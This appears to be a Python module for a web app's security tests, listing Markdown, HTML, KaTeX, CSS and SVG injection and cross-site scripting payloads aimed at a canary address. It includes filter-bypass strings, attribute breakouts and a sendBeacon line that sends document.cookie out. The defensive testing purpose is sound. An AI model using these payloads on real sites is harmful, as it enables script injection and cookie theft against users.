"""Texts that would have a browser ask a stranger, or run a script, if they were taken for markup.

Each `@` stands for an address of its own at the canary, so that a request tells which text of which
surface it came from. `@@` is the same with everything that has a meaning in an address encoded.
"""

from __future__ import annotations

from urllib.parse import quote

#: Whatever the page would have to fetch, follow or send to draw it.
FETCHES: dict[str, str] = {
    "markdown-image": "![a picture](@)",
    "markdown-image-title": '![a picture](<@> "a title")',
    "markdown-reference": "![a picture][ref] [ref]: @",
    "markdown-link": "[read on](@)",
    "markdown-linked-image": "[![a picture](@)](@)",
    "markdown-autolink": "<@>",
    "bare-address": "See @ for more",
    "streamlit-image": ":image[@]",
    "streamlit-background": ":blue-background[![x](@)]",
    "streamlit-badge": ":red-badge[:material/home: ![x](@)]",
    "streamlit-small": ":small[:material/@:]",
    "katex-image": r"$\includegraphics[height=1em]{@}$",
    "katex-link": r"$$\href{@}{x} \url{@}$$",
    "wiki-embed": "![[@]] [[@|read]]",
    "footnote": "A note.[^1] [^1]: ![x](@)",
    "img": '<img src="@">',
    "img-unquoted": "<img src=@ >",
    "img-upper": '<IMG SRC="@">',
    "img-slashes": '<img/src="@"/>',
    "img-srcset": '<img srcset="@ 1x, @ 2x">',
    "img-lowsrc": '<img lowsrc="@" dynsrc="@">',
    "img-lazy": '<img loading="eager" src="@" alt="x">',
    "img-unclosed": '<img src="@" x="',
    "img-after-quote": '"><img src="@">',
    "img-after-script": '</script></style></textarea></title><img src="@">',
    "img-in-comment": '<!--><img src="@">-->',
    "img-in-noscript": '<noscript><p title="</noscript><img src=@ >">',
    "img-in-math": '<math><mtext><table><mglyph><style><img src="@">',
    "picture": '<picture><source srcset="@"><img></picture>',
    "video": '<video poster="@" src="@" autoplay></video>',
    "audio": '<audio src="@" autoplay></audio><track src="@">',
    "iframe": '<iframe src="@"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='@'>\"></iframe>",
    "object": '<object data="@"></object>',
    "embed": '<embed src="@">',
    "stylesheet": '<link rel="stylesheet" href="@">',
    "preload": '<link rel="preload" as="image" href="@">',
    "prefetch": '<link rel="prefetch" href="@">',
    "dns-prefetch": '<link rel="dns-prefetch" href="@">',
    "preconnect": '<link rel="preconnect" href="@">',
    "modulepreload": '<link rel="modulepreload" href="@">',
    "icon": '<link rel="icon" href="@">',
    "manifest": '<link rel="manifest" href="@">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=@">',
    "base": '<base href="@"><img src="x">',
    "form": '<form action="@" method="post"><button autofocus>Go</button></form>',
    "input-image": '<input type="image" src="@">',
    "body-background": '<body background="@">',
    "table-background": '<table background="@"><td background="@">x</table>',
    "style-attribute": '<p style="background:url(@)">x</p>',
    "style-list": '<li style="list-style-image:url(@)">x</li>',
    "style-import": "<style>@import '@';</style>",
    "style-font": "<style>@font-face{font-family:x;src:url(@)}*{font-family:x}</style>",
    "style-image-set": "<style>*{background:image-set('@' 1x)}</style>",
    "style-content": "<style>p::after{content:url(@)}</style>",
    "svg-image": '<svg><image href="@" width="9" height="9"/></svg>',
    "svg-use": '<svg><use xlink:href="@#x"/></svg>',
    "svg-filter": '<svg><filter><feImage href="@"/></filter></svg>',
    "ping": '<a href="#" ping="@">x</a>',
    "entities": "&lt;img src=&quot;@&quot;&gt;",
    "entities-inside": '<img src="&#104;&#116;&#116;&#112;&#58;@@">',
    "encoded": "%3Cimg%20src%3D%22@@%22%3E",
    "escaped": r"\u003cimg src=\u0022@\u0022\u003e \x3cimg src=@\x3e",
    "doubled-slashes": '<img src="@//x">',
    "script": '<script src="@"></script>',
    "module": '<script type="module">import "@"</script>',
    "websocket": "<script>new WebSocket('@'.replace('http', 'ws'))</script>",
    "fetch": "<img src=x onerror=\"fetch('@')\">",
    "beacon": "<svg onload=\"navigator.sendBeacon('@', document.cookie)\">",
}
#: Whatever would run a script: each sets `pwned`, or opens a dialog, which a test listens for.
SCRIPTS: dict[str, str] = {
    "onerror": "<img src=x onerror=window.pwned=1>",
    "onload": "<svg onload=window.pwned=1>",
    "script": "<script>window.pwned=1</script>",
    "script-after-end": "</script><script>alert(1)</script>",
    "details": "<details open ontoggle=window.pwned=1>x</details>",
    "autofocus": "<input autofocus onfocus=window.pwned=1>",
    "javascript-link": "[read on](javascript:window.pwned=1)",
    "javascript-frame": '<iframe src="javascript:parent.pwned=1"></iframe>',
    "data-frame": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "data-svg": '<object data="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg'
    ' onload=alert(1)>"></object>',
    "animation": "<style>@keyframes x{}</style><p style='animation:x' onanimationstart=alert(1)>",
    "marquee": "<marquee onstart=window.pwned=1>x</marquee>",
    "template": "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}",
    "attribute": '" autofocus onfocus="window.pwned=1" x="',
    "attribute-single": "' onmouseover='window.pwned=1' style='position:fixed;inset:0",
    "nested": '<math><mi//xlink:href="data:x,<script>alert(1)</script>"><svg><style><img title=\''
    "</style><img src=x onerror=window.pwned=1>'>",
}


def list_payloads(canary: str, surface: str) -> dict[str, str]:
    """All of them by name, each asking the canary for a path of its own on this surface."""
    fetches = {name: _fill(text, f"{canary}/{surface}/{name}") for name, text in FETCHES.items()}
    return fetches | {f"runs-{name}": text for name, text in SCRIPTS.items()}


def list_names(canary: str, surface: str) -> dict[str, str]:
    """Those that can be part of a file's name: without a slash, and short."""
    address = quote(f"{canary}/{surface}", safe="")
    return {
        "onerror": "<img src=x onerror=window.pwned=1>",
        "onload": "<svg onload=window.pwned=1>",
        "input": "<input autofocus onfocus=alert(1)>",
        "markdown": f"![x]({address}-markdown)",
        "directive": f":image[{address}-directive]",
        "entities": "&lt;img src=x onerror=window.pwned=1&gt;",
        "katex": rf"$\includegraphics{{{address}-katex}}$",
        "attribute": '" autofocus onfocus="window.pwned=1',
        "relative": "<img src=%2E%2E%2Fx>",
    }


def _fill(text: str, address: str) -> str:
    # The at-rules of a style sheet keep theirs.
    for rule in ("@import", "@font-face", "@keyframes"):
        text = text.replace(rule, rule.replace("@", "\0"))
    text = text.replace("@@", quote(address, safe="")).replace("@", address)
    return text.replace("\0", "@")
